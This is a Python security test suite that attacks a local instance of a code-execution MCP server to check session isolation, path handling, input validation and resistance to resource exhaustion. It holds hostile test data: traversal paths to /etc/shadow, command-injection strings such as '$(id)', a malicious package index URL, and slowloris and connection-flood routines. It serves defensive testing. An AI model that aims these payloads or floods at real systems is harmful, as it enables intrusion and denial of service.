"""Hostile suite: attacks a running codexec from outside, through the
official MCP Python SDK and raw HTTP. See README.md here.

    python hostile.py dev [section ...]      # codexec dev --http
    python hostile.py cluster [section ...]  # nats + redis + frontend + two workers, one host
"""
import asyncio, base64, json, os, re, socket, subprocess, sys, tempfile, time, urllib.request
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
import jobs

R = Results()
JOB_UID_MIN = 2000000000


def host_job_procs():
    """Processes on the host owned by a job uid."""
    out = []
    for pid in os.listdir('/proc'):
        if not pid.isdigit():
            continue
        try:
            st = open(f'/proc/{pid}/status').read()
            uid = int(re.search(r'^Uid:\s+(\d+)', st, re.M).group(1))
            if uid >= JOB_UID_MIN and b"hostile-" in open(f'/proc/{pid}/cmdline', 'rb').read():  # ours, not another test's
                out.append((int(pid), uid, open(f'/proc/{pid}/cmdline', 'rb').read()[:80]))
        except Exception:
            pass
    return out


async def responsive(s, label):
    t = time.time()
    sc = await run(s, "print('alive')", timeout_seconds=60)
    ok = "alive" in sc.get("stdout", "")
    R.add(f"server responsive after {label}", ok, f"{time.time() - t:.1f}s {sc.get('status')} {text(sc)[:200]}")


def leaks(sc):
    return [l for l in text(sc).splitlines() if l.startswith("LEAK")]


async def probe(s, name, code, expect_status=None, **kw):
    sc = await run(s, code, **kw)
    l = leaks(sc)
    ok = not l and (expect_status is None or sc.get("status") in expect_status)
    R.add(name, ok, f"status={sc.get('status')} limit={sc.get('limit')} " + ("; ".join(l) if l else text(sc)[-300:].replace("\n", " | ")))
    return sc


async def sandbox_section(a, b, srv):
    # Bob plants secrets of his session in every place a job can write.
    await run(b, "open('BOBSECRET_cwd','w').write('BOBSECRET_content');import os\nopen('/tmp/BOBSECRET_tmp','w').write('BOBSECRET_content')\ntry: open('/dev/shm/BOBSECRET_shm','w').write('x')\nexcept Exception as e: print(e)\nos.chmod('.', 0o777)")
    await probe(a, "identity: no caps, no_new_privs, seccomp, job uid, fds 0-2 only", jobs.WHOAMI)
    await probe(a, "seccomp refuses kernel attack surface", jobs.SYSCALLS)
    walk = jobs.HOST_WALK.replace("CANARIES", repr(["BOB+SECRET", "CANARY_WORKER+_ENV_77"])).replace("DATA_DIR", repr(srv.data_dir))
    await probe(a, "host walk: no other session's files, no worker env, no state store", walk, timeout_seconds=120)
    await probe(a, "shared memory / SysV IPC of other sessions", jobs.SHM)
    for _ in range(3):  # spares forked after bob's run
        await probe(a, "zygote's memory: no other session's scope in a job's objects or pages", jobs.ZYGOTE_MEMORY)
    # Concurrent: bob listens on loopback and an abstract socket while alice looks.
    listen = ("import socket,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',45678));s.listen()\n"
              "u=socket.socket(socket.AF_UNIX);u.bind('\\0BOBSECRET_abs');u.listen()\ntime.sleep(6)\nprint('bob done')")
    look = ("import socket,time\ntime.sleep(2)\n"
            "try:\n socket.create_connection(('127.0.0.1',45678),1);print('LEAK reached bob tcp')\nexcept Exception as e: print('ok tcp',e)\n"
            "u=socket.socket(socket.AF_UNIX)\ntry:\n u.connect('\\0BOBSECRET_abs');print('LEAK reached bob abstract')\nexcept Exception as e: print('ok abs',e)\n"
            "print('LEAK sees bob abstract' if 'BOBSECRET' in open('/proc/net/unix').read() else 'ok net/unix')\n"
            "import os\nfor p in os.listdir('/proc'):\n if p.isdigit():\n  try:\n   c=open('/proc/%s/cmdline'%p,'rb').read()\n   if b'BOBSECRET' in c: print('LEAK bob proc', p)\n  except Exception: pass")
    bt = asyncio.create_task(run(b, listen))
    await probe(a, "concurrent: bob's loopback port and abstract socket out of alice's reach", look)
    await bt
    ports = [srv.port] + srv.service_ports
    net = jobs.NET.replace("PORTS", repr(ports)).replace("HOSTIP", repr(host_ip()))
    await probe(a, f"network: no NATS/Redis/MCP ports {ports} from a job", net)


def host_ip():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("10.255.255.255", 1)); return s.getsockname()[0]
    except Exception:
        return "127.0.0.2"
    finally:
        s.close()


async def exhaustion_section(a, b):
    lim = {"disk_mb": 20}
    await probe(a, "fork bomb", jobs.FORK_BOMB, timeout_seconds=20)
    await responsive(b, "fork bomb")
    await probe(a, "thread bomb", jobs.THREAD_BOMB, timeout_seconds=20)
    await probe(a, "memory bomb", jobs.MEM_BOMB, expect_status={"limit"}, limits={"memory_mb": 256})
    await probe(a, "fallocate past disk_mb=20", jobs.FALLOCATE, limits=lim)
    await probe(a, "sparse file at 50 GiB offset", jobs.SPARSE, limits=lim)
    await probe(a, "inode exhaustion at disk_mb=20", jobs.INODES, limits=lim, timeout_seconds=120)
    await probe(a, "deep directories at disk_mb=20", jobs.DEEP, limits=lim, timeout_seconds=120)
    await run(a, "import shutil;[shutil.rmtree(d, ignore_errors=True) for d in ('inodes','deep')]\nimport os\n[os.remove(f) for f in os.listdir('.') if f.startswith(('big','sparse'))]", timeout_seconds=120)
    await probe(a, "pty exhaustion", jobs.PTYS)
    await responsive(b, "pty exhaustion")
    await probe(b, "pty still available to another session", "import pty;m,s=pty.openpty();print('ok pty')")
    await probe(a, "many open files", jobs.NOFILE)
    sc = await probe(a, "stdout flood 300 MiB", jobs.STDOUT_FLOOD, timeout_seconds=120)
    R.add("stdout flood truncated in result", len(sc.get("stdout", "")) <= 2 << 20, f"{len(sc.get('stdout',''))} bytes returned")
    sc = await probe(a, "stderr flood 300 MiB", jobs.STDERR_FLOOD, timeout_seconds=120)
    R.add("stderr flood truncated in result", len(sc.get("stderr", "")) <= 2 << 20, f"{len(sc.get('stderr',''))} bytes returned")
    await probe(a, "line flood (progress notifications)", jobs.LINE_FLOOD, timeout_seconds=120)
    await responsive(b, "output floods")
    await probe(a, "zombies", jobs.ZOMBIES)
    before = host_job_procs()
    mark = "survivor.mark"
    await probe(a, "double fork + setsid daemon", jobs.SURVIVOR.replace("MARK", repr(mark)))
    await asyncio.sleep(2)
    left = host_job_procs()
    R.add("nothing the jobs started outlives them (host /proc)", not left, str(left)[:300])
    sc = await run(a, "import os,time\ns=os.path.getsize('survivor.mark');time.sleep(1.5);print(s, os.path.getsize('survivor.mark'))")
    nums = sc.get("stdout", "").split()
    R.add("daemon stopped writing after its job", len(nums) == 2 and nums[0] == nums[1], sc.get("stdout", ""))
    sc = await run(a, jobs.FORGE)
    R.add("forged result: a failing job that writes success everywhere still fails",
          sc.get("status") != "ok" and sc.get("exit_code") == 3, f"status={sc.get('status')} exit={sc.get('exit_code')}")
    await responsive(b, "signals from a job")
    await probe(a, "timeout kills a job that ignores signals", "import signal,time\nfor s in (1,2,3,15): signal.signal(s, signal.SIG_IGN)\nwhile True: pass", expect_status={"timeout"}, timeout_seconds=3)


async def call(s, tool, args):
    try:
        res = await s.call_tool(tool, args)
    except Exception as e:
        return {"exception": repr(e)}, True
    sc = res.structured_content or {}
    txt = " ".join(getattr(c, "text", "") for c in res.content)
    return {**sc, "_text": txt}, res.is_error


async def read_res(s, uri):
    try:
        r = await s.read_resource(uri)
        return "".join(getattr(c, "text", "") or (getattr(c, "blob", "") and base64.b64decode(c.blob).decode("latin1")) for c in r.contents)
    except Exception as e:
        return "ERR " + str(e)[:200]


async def paths_section(a, b, srv):
    target = tempfile.mkdtemp(prefix="hostile-target-")
    os.chmod(target, 0o777)
    open(os.path.join(target, "hostfile"), "w").write("HOSTSECRET_file")
    # links planted by a job, pointing at host paths (as the worker sees them) and sandbox paths
    plant = (f"import os\nfor n,t in [('lnk',{target!r}),('shadow','/etc/shadow'),('hostf',{target!r}+'/hostfile'),('rootlnk','/'),"
             "('procroot','/proc/self/root/etc/shadow'),('up','..'),('state',%r)]:\n"
             " try: os.symlink(t,n)\n except FileExistsError: pass\n"
             "os.makedirs('.codexec',exist_ok=True)\n"
             "try: os.link('/etc/passwd','hard')\nexcept OSError as e: print('no hard link', e)\n") % (srv.data_dir + "/state.db",)
    await run(a, plant)
    for p in ["lnk/x", "lnk/hostfile", "hostf", "shadow", "../x", "../../x", "/etc/x", "/tmp/x", "a/../../x", "rootlnk/tmp/x", "up/x",
              "up/up/x", "./../x", "x/../../y", "\u2025/x", "..\\x", "a\x00b", "state", "", ".", "..", "/", "procroot", ".codexec/output",
              "a" * 5000, "d/" * 3000 + "x"]:
        sc, err = await call(a, "upload_file", {"path": p, "content": "PWNED"})
        wrote_host = any("PWNED" in open(os.path.join(target, f), errors="ignore").read() for f in os.listdir(target) if os.path.isfile(os.path.join(target, f)))
        outside = os.path.exists("/x") or os.path.exists("/tmp/x") or os.path.exists("/etc/x") or os.path.exists(os.path.join(srv.data_dir, "x"))
        R.add(f"upload_file {p[:40]!r}", not wrote_host and not outside, f"err={err} {str(sc)[:200]}")
    for u in ["codexec://workspace/shadow", "codexec://workspace/hostf", "codexec://workspace/lnk/hostfile", "codexec://workspace/procroot",
              "codexec://workspace/../../state.db", "codexec://workspace/%2e%2e/%2e%2e/state.db", "codexec://workspace/..%2f..%2fstate.db",
              "codexec://workspace//etc/shadow", "codexec://workspace/rootlnk/etc/shadow", "codexec://workspace/up/up/state.db",
              "codexec://workspace/state", "codexec://workspace/hard", "codexec://workspace/%00", "codexec://workspace/x?offset=-5&length=-1",
              "codexec://workspace/BOBSECRET_cwd", "codexec://workspace/../BOBSECRET_cwd", *(["codexec://workspace/BOBSECRET_cwd?workspace=" + srv.bob_handle] if getattr(srv, "authenticated", False) else []),
              "codexec://workspace/BOBSECRET_cwd?batch=../../", "file:///etc/shadow", "codexec://workspace/proc/self/environ"]:
        body = await read_res(a, u)
        bad = any(m in body for m in ("root:x", "HOSTSECRET", "BOBSECRET_content", "CANARY", "SQLite", "bbolt")) or (len(body) > 40 and "ERR" not in body and "hard" not in u)
        R.add(f"resources/read {u[:70]}", not bad, body[:150].replace("\n", " "))
    # a FIFO and a socket planted by a job: a read must answer, not hang
    await run(a, "import os,socket\ntry: os.mkfifo('pipe')\nexcept FileExistsError: pass\ns=socket.socket(socket.AF_UNIX);s.bind('sock')")
    for u in ["codexec://workspace/pipe", "codexec://workspace/sock"]:
        t = time.time()
        try:
            body = await asyncio.wait_for(read_res(a, u), 30)
        except asyncio.TimeoutError:
            body = "HUNG"
        R.add(f"resources/read of a planted {u.rsplit('/', 1)[1]} answers", body != "HUNG", f"{time.time() - t:.1f}s {body[:100]}")
    sc, err = await call(a, "upload_file", {"path": "pipe", "content": "x"})
    R.add("upload_file onto a planted FIFO answers", True, f"err={err} {str(sc)[:100]}")
    for fn in ["../../../tmp/x", "/etc/cron.d/x", "..", "a\x00b", "\u202e.py", "x" * 4000, "../" * 50 + "etc/passwd", "CON", ".codexec/output/x"]:
        sc = await run(a, "import os;print(os.path.abspath(__file__))", filename=fn)
        R.add(f"execute_code filename {fn[:30]!r}", not os.path.exists("/tmp/x.py") and not os.path.exists("/etc/cron.d/x.py"),
              f"{sc.get('status')} {sc.get('filename','')[:60]} {text(sc)[:150]}")
        sc, err = await call(a, "initialize_code_file", {"filename": fn, "content": "print(1)"})
        R.add(f"initialize_code_file filename {fn[:30]!r}", not os.path.exists("/tmp/x.py"), f"err={err} {str(sc)[:160]}")
    # job reads its own code file copies and tries to write them / the interpreter
    await probe(a, "job cannot write interpreter, env, scripts", "import sys,os\nfor p in [sys.executable, os.path.dirname(sys.executable), os.path.abspath(__file__), '/usr/lib/python3/x', os.environ.get('VIRTUAL_ENV','/x')+'/x']:\n try:\n  open(p if not os.path.isdir(p) else p+'/x','a').write('x');print('LEAK wrote',p)\n except Exception as e: print('ok',p,type(e).__name__)")


async def ids_section(a, b, srv):
    # Bob's ids, presented by alice.
    sc = await run(b, "print('BOBSECRET_run')")
    bob_job = sc.get("job_id", "")
    fsc, _ = await call(b, "initialize_code_file", {"filename": "bobfile", "content": "print('BOBSECRET_file')"})
    ctx, _ = await call(b, "create_context", {})
    ctx_id = ctx.get("context_id", "")
    checks = [
        ("get_job_result", {"job_id": bob_job}),
        ("read_code_file", {"job_id": bob_job}),
        ("read_code_file", {"file_path": fsc.get("file_path", "bobfile.py")}),
        ("read_code_file", {"file_path": "bobfile.py", "workspace": srv.bob_handle}),
        ("execute_code_file", {"file_path": "bobfile.py", "workspace": srv.bob_handle}),
        ("list_code_files", {"workspace": srv.bob_handle}),
        ("workspace_info", {"workspace": srv.bob_handle}),
        ("run_in_context", {"context_id": ctx_id, "code": "print('LEAK in bob context')"}),
        ("close_context", {"context_id": ctx_id}),
        ("execute_code", {"code": "import os;print(os.listdir('.'))", "workspace": srv.bob_handle}),
        ("get_job_results", {"batch_id": "x" * 20, "job_ids": [bob_job]}),
        ("cancel_batch", {"batch_id": "x" * 20, "job_ids": [bob_job]}),
    ]
    for tool, args in checks:
        if "workspace" in args and not getattr(srv, "authenticated", False):
            continue  # without authentication every caller is one principal: a handle is its key by design
        sc, err = await call(a, tool, args)
        s = json.dumps(sc)
        R.add(f"cross-session {tool} {list(args)}", "BOBSECRET" not in s and "LEAK" not in s, s[:200])
    sc, _ = await call(b, "run_in_context", {"context_id": ctx_id, "code": "print('bob still has it')"})
    R.add("bob's context survives alice's close_context", "bob still has it" in json.dumps(sc), json.dumps(sc)[:200])
    await call(b, "close_context", {"context_id": ctx_id})


async def mcp_input_section(a, srv):
    bad_args = [
        ("execute_code", {"code": 12345}), ("execute_code", {"code": None}), ("execute_code", {"code": ["print(1)"]}),
        ("execute_code", {"code": "print(1)", "timeout_seconds": -1}), ("execute_code", {"code": "print(1)", "timeout_seconds": 1e308}),
        ("execute_code", {"code": "print(1)", "timeout_seconds": "NaN"}), ("execute_code", {"code": "print(1)", "limits": {"memory_mb": -1}}),
        ("execute_code", {"code": "print(1)", "limits": {"memory_mb": 1e20}}), ("execute_code", {"code": "print(1)", "limits": {"processes": 0}}),
        ("execute_code", {"code": "print(1)", "limits": {"nope": 1}}), ("execute_code", {"code": "print(1)", "limits": "big"}),
        ("execute_code", {"code": "print('\u0000\ud7ff\U0001f600')"}), ("execute_code", {"code": "print(1)", "gpu": {"count": 1000}}),
        ("install_dependencies", {"packages": "requests"}), ("install_dependencies", {"packages": ["--index-url=http://evil/ x"]}),
        ("install_dependencies", {"packages": ["-r /etc/shadow"]}), ("install_dependencies", {"packages": ["x; os.system('id')"]}),
        ("install_dependencies", {"packages": ["file:///etc"]}), ("install_dependencies", {"packages": ["pkg @ file:///etc/shadow"]}),
        ("install_dependencies", {"packages": ["$(id)"]}), ("configure_environment", {"type": "venv", "venv_path": "/etc"}),
        ("configure_environment", {"type": "venv", "venv_path": "../../../"}), ("configure_environment", {"type": "conda", "conda_name": "../../x"}),
        ("configure_environment", {"type": "venv-uv", "python_version": "3.11; id"}), ("configure_environment", {"type": "'; id; '"}),
        ("append_to_code_file", {"file_path": "../../state.db", "content": "x"}), ("delete_code_file", {"file_path": "../../state.db"}),
        ("delete_code_file", {"file_path": "*"}), ("list_code_files", {"max_runs": -1}), ("list_code_files", {"max_runs": 1e12}),
        ("read_code_file", {}), ("get_job_result", {"job_id": "../../../etc/passwd"}), ("get_job_result", {"job_id": "*"}),
        ("get_job_result", {"job_id": "x" * 100000}), ("upload_file", {"path": "b64", "content": "!!!notbase64", "encoding": "base64"}),
        ("upload_file", {"path": "enc", "content": "x", "encoding": "utf-7"}), ("workspace_info", {"workspace": "../../"}),
        ("workspace_info", {"workspace": "x" * 100000}), ("submit_jobs", {"batch_id": "../../../../etc", "jobs": []}),
        ("nonexistent_tool", {}),
    ]
    for tool, args in bad_args:
        sc, err = await call(a, tool, args)
        s = json.dumps(sc)
        R.add(f"bad input {tool} {json.dumps(args)[:60]}", "uid=" not in s and "root:" not in s, f"err={err} {s[:160]}")
    sc = await run(a, "print(1)")
    R.add("server alive after bad input", sc.get("stdout") == "1\n", str(sc)[:100])


def raw(port, body, headers=None, method="POST", path="/mcp", timeout=30):
    h = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", **(headers or {})}
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, method=method, headers=h)
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read(4096).decode(errors="replace"), dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read(2048).decode(errors="replace"), dict(e.headers)
    except Exception as e:
        return -1, repr(e), {}


def init_body():
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}}).encode()


def rss_kib(pid):
    tot = 0
    for p in [pid] + [int(c) for c in open(f"/proc/{pid}/task/{pid}/children").read().split()]:
        try:
            tot += int(re.search(r"VmRSS:\s+(\d+)", open(f"/proc/{p}/status").read()).group(1))
        except Exception:
            pass
    return tot


async def http_section(srv):
    port = srv.port
    st, body, _ = raw(port, init_body(), {"Origin": "http://evil.example"})
    R.add("bad Origin refused with 403", st == 403, f"{st} {body[:100]}")
    st, body, _ = raw(port, init_body(), {"Host": "evil.example"})
    R.add("rebound Host refused", st in (403, 421, 400), f"{st} {body[:100]}")
    st, body, _ = raw(port, init_body(), {"Origin": "null"})
    R.add("Origin: null refused", st == 403, f"{st} {body[:100]}")
    for name, b in [("invalid JSON", b"{not json"), ("empty", b""), ("array of 10000", json.dumps([{"jsonrpc": "2.0", "method": "ping", "id": i} for i in range(10000)]).encode()),
                    ("deep nesting", b"[" * 200000 + b"]" * 200000), ("deep object", b'{"a":' * 100000 + b"1" + b"}" * 100000),
                    ("NUL in method", json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/\u0000call"}).encode()),
                    ("bad utf8", b'{"jsonrpc":"2.0","id":1,"method":"\xff\xfe"}'), ("huge id", json.dumps({"jsonrpc": "2.0", "id": "x" * 1000000, "method": "ping"}).encode())]:
        st, body, _ = raw(port, b)
        R.add(f"raw {name}", st in (200, 202, 400, 404, 413, 415, 422) and st != -1, f"{st} {body[:120]}")
    st, body, _ = raw(port, json.dumps({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).encode(), {"Mcp-Session-Id": "../../etc/passwd"})
    R.add("bad session id refused", st in (400, 404), f"{st} {body[:100]}")
    st, body, _ = raw(port, json.dumps({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).encode(), {"Mcp-Session-Id": "x" * 100000})
    R.add("huge session id refused", st in (400, 404, 431), f"{st} {body[:100]}")
    # Oversize body: stream 1 GiB, the server must refuse early without growing.
    before = rss_kib(srv.proc.pid)
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 1073741824\r\n\r\n")
    sent = 0
    try:
        s.settimeout(10)
        chunk = b'{"a":"' + b"x" * (1 << 20)
        while sent < (1 << 30):
            s.sendall(chunk); sent += len(chunk)
    except Exception:
        pass
    try:
        resp = s.recv(200).decode(errors="replace")
    except Exception as e:
        resp = repr(e)
    s.close()
    R.add("1 GiB body refused early", sent < (300 << 20), f"sent {sent >> 20} MiB, answer {resp[:60]!r}, rss {before}->{rss_kib(srv.proc.pid)} KiB")
    # Slowloris: 300 connections dribbling headers; the server must still answer.
    socks = []
    for i in range(300):
        try:
            c = socket.create_connection(("127.0.0.1", port), 2); c.sendall(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n"); socks.append(c)
        except Exception:
            break
    st, _, _ = raw(port, b"", method="GET", path="/healthz", timeout=10)
    R.add("answers during slowloris of 300 connections", st == 200, f"{st} with {len(socks)} open")
    for c in socks:
        c.close()
    # Slow bodies: headers complete, body never sent, on more connections than the listener takes.
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    socks = []
    for i in range(4200):
        try:
            c = socket.create_connection(("127.0.0.1", port), 2)
            c.sendall(f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{".encode())
            socks.append(c)
        except Exception:
            break
    t = time.time()
    st, _, _ = raw(port, b"", method="GET", path="/healthz", timeout=90)
    waited = time.time() - t
    R.add("answers within 10 s while one client holds 4,200 connections with unsent bodies", st == 200 and waited < 10,
          f"{st} after {waited:.1f}s with {len(socks)} held")
    for c in socks:
        c.close()
    # Session flood: 2000 initializes; memory of the server.
    before = rss_kib(srv.proc.pid)
    t = time.time()
    loop = asyncio.get_running_loop()
    sts = await asyncio.gather(*[loop.run_in_executor(None, raw, port, init_body()) for _ in range(2000)])
    codes = {}
    for st, _, _ in sts:
        codes[st] = codes.get(st, 0) + 1
    after = rss_kib(srv.proc.pid)
    R.add("2000 session initializes: server holds", after - before < 200 << 10, f"codes {codes} rss {before}->{after} KiB in {time.time()-t:.1f}s")
    st, _, _ = raw(port, b"", method="GET", path="/healthz", timeout=10)
    R.add("healthz after flood", st == 200, str(st))


class DevServer(Dev):
    @property
    def data_dir(self):
        return self.dir

    service_ports = []


async def dev_main(sections):
    srv = DevServer()
    try:
        async with http_session(srv.url) as a, http_session(srv.url) as b:
            sc, _ = await call(b, "workspace_info", {})
            srv.bob_handle = sc.get("workspace", sc.get("handle", ""))
            print("bob handle", srv.bob_handle, sc)
            if "sandbox" in sections: await sandbox_section(a, b, srv)
            if "paths" in sections: await paths_section(a, b, srv)
            if "ids" in sections: await ids_section(a, b, srv)
            if "input" in sections: await mcp_input_section(a, srv)
            if "exhaust" in sections: await exhaustion_section(a, b)
        if "http" in sections: await http_section(srv)
    finally:
        srv.close()
        print("server log:", os.path.join(srv.dir, "server.log"))


ALL = ["sandbox", "paths", "ids", "input", "exhaust", "http"]

if __name__ == "__main__":
    mode = sys.argv[1] if len(sys.argv) > 1 else "dev"
    sections = sys.argv[2:] or ALL
    if mode == "dev":
        asyncio.run(dev_main(sections))
    elif mode == "auth":
        import auth
        asyncio.run(auth.main(R))
    elif mode == "cluster":
        import cluster
        asyncio.run(cluster.main(R, sections))
    sys.exit(R.summary())
